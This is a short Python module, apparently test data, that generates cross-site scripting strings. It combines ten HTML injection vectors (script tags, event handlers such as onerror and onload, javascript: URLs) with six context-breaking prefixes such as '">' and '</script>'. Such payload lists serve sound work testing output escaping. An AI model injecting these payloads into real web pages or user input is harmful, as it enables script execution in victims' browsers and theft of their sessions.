"""Texts that try to run a script where they are shown."""

BREAK_OUTS = (
    "<script>HERE</script>",
    "<img src=x onerror=HERE>",
    "<svg onload=HERE>",
    "<iframe srcdoc='<script>parent.HERE</script>'></iframe>",
    "<details open ontoggle=HERE>",
    "<body onload=HERE>",
    "<input autofocus onfocus=HERE>",
    "<video><source onerror=HERE></video>",
    "<a href='javascript:HERE'>x</a>",
    "<math><mi xlink:href='javascript:HERE'>x</mi></math>",
)
WRAPS = ("{}", '"{}', "'>{}", "</pre>{}", "</script>{}", "-->{}")


def hostile_texts(script: str) -> list[str]:
    return [wrap.format(text.replace("HERE", script)) for text in BREAK_OUTS for wrap in WRAPS]
